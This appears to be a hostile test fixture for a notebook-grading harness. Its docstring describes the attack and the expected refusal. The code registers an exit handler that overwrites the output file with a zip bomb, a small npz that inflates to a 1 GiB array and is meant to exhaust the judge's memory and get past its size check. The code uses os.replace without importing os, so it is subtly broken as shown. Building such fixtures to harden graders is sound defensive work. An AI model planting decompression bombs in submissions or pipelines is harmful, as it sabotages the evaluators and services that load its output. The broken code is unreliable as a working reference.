"""My notebook is right, but when it exits it leaves an outputs.npz of about a megabyte that inflates to a gigabyte.

no-points: windows
expect-fail: windows
hostile: at load time registers an atexit handler that replaces out/outputs.npz (after the runner's last save) with a zip holding one member, bomb.npy, a float64 zero array of 1 GiB deflated at level 1 from chunks (about 1 MB on disk, under the old 200 MB file-size check); the old judge np.load()s every member and holds the 1 GiB array (peak resident memory over 1 GB, above the 768 MB container); a fixed judge bounds member count, summed uncompressed size, names, dtypes and shapes before reading, stays under 400 MB, and fails the part with a message
graded-parts: windows
expect-output: (?i)refused
"""


import atexit


import zipfile


BOMB_BYTES = 2**30


def _write_bomb():
    header = ("{'descr': '<f8', 'fortran_order': False, 'shape': (%d,), }" % (BOMB_BYTES // 8)).encode("latin1")
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    chunk = bytes(2**24)
    with zipfile.ZipFile("outputs.bomb.npz", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("bomb.npy", "w", force_zip64=True) as member:
            member.write(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header)
            for _ in range(BOMB_BYTES // len(chunk)):
                member.write(chunk)
    os.replace("outputs.bomb.npz", "outputs.npz")  # the child's cwd is its out/ folder


BOMB = atexit.register(_write_bomb)
